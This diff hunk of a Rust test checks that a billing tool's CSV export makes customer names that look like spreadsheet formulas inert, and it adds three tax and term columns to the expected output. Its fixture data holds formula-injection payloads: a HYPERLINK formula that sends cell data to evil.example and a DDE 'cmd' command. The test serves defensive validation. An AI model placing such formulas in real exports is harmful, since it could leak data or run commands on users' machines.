@@ -135,14 +135,14 @@ fn customer_names_that_would_be_formulas_are_inert_in_the_csv_and_amounts_stay_n
         .run()
         .status(0)
         .stdout(
-            "customer,monthly_recurring,one_time,first_invoice_total,term_total_with_tax,status,message
-\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",120.00,0.00,127.20,1526.40,ok,
-'+1+cmd|' /C calc'!A0,120.00,0.00,127.20,1526.40,ok,
-'-2+3,120.00,0.00,127.20,1526.40,ok,
-'@SUM(A1:A9),120.00,0.00,127.20,1526.40,ok,
-'=1+1,120.00,0.00,127.20,1526.40,ok,
-'=1+1,120.00,0.00,127.20,1526.40,ok,
-Plain Customer,120.00,0.00,127.20,1526.40,ok,
+            "customer,monthly_recurring,one_time,first_invoice_total,term_total_with_tax,annual_recurring,term_total,term_tax,status,message
+\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",120.00,0.00,127.20,1526.40,1440.00,1440.00,86.40,ok,
+'+1+cmd|' /C calc'!A0,120.00,0.00,127.20,1526.40,1440.00,1440.00,86.40,ok,
+'-2+3,120.00,0.00,127.20,1526.40,1440.00,1440.00,86.40,ok,
+'@SUM(A1:A9),120.00,0.00,127.20,1526.40,1440.00,1440.00,86.40,ok,
+'=1+1,120.00,0.00,127.20,1526.40,1440.00,1440.00,86.40,ok,
+'=1+1,120.00,0.00,127.20,1526.40,1440.00,1440.00,86.40,ok,
+Plain Customer,120.00,0.00,127.20,1526.40,1440.00,1440.00,86.40,ok,
 ",
         );
 }
